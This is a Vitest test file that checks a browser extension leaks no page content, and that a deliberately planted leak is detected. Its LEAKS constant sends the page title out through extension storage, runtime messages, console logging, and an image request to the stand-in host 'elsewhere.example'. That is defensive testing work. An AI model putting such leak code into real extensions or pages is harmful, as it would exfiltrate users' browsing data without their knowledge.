import { describe, expect, test } from 'vitest';
import { holds, prove } from '../../src/cli/prove/prove';
import { buildFolder, ENGINES } from '../support/session';

/** Each lets a word of the page out by another way. */
const LEAKS = `
  setTimeout(() => {
    const api = globalThis.browser ?? globalThis.chrome;
    const title = document.title;
    api.storage.local.set({ ['leak ' + Math.random()]: title });
    api.runtime.sendMessage({ type: 'leak', title }).catch(() => undefined);
    console.log(title);
    new Image().src = 'http://elsewhere.example/' + encodeURIComponent(title);
  });`;

// `npm run prove:privacy` does the same with a thousand.
const SHORT = { count: 40, pages: 1 };

describe.each(ENGINES)('nothing of a page leaves it, %s', (engine) => {
  const build = buildFolder(engine, 'e2e');

  test('through marks, warning, dismissal, cards and every page of ours', async () => {
    const proof = await prove(engine, build, SHORT);
    expect(proof).toMatchObject({ requests: [], found: [], errors: [] });
    expect(proof.messages).toBeGreaterThan(0);
    expect(proof.surfaces).toEqual(
      expect.arrayContaining(['marks', 'warning', 'popup.html', 'options.html']),
    );
    expect(holds(proof)).toBe(true);
  }, 120_000);

  test('and it would be seen: in a request, a message, a store and a log', async () => {
    const proof = await prove(engine, build, { ...SHORT, planted: LEAKS });
    expect(holds(proof)).toBe(false);
    expect(proof.requests.some((address) => address.startsWith('http://elsewhere.example/'))).toBe(true);
    const ways = [...new Set(proof.found.map(({ where }) => where))];
    expect(ways).toEqual(
      expect.arrayContaining([
        'page: runtime.sendMessage',
        'page: console.log',
        'page: storage.local.set',
        'background: runtime.onMessage',
        'storage.local: held',
      ]),
    );
  }, 120_000);
});
